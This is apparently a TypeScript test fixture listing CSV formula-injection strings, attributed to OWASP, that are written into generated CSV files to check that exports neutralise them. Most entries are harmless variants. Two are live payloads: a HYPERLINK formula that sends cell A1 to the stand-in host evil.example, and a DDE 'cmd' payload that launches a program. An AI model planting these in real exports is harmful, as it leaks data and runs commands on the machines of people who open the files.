/**
 * Texts that spreadsheets execute, as OWASP lists them. Each CSV that is written gets one row per
 * text.
 */
export const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '-5',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttext',
  '  =1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
];
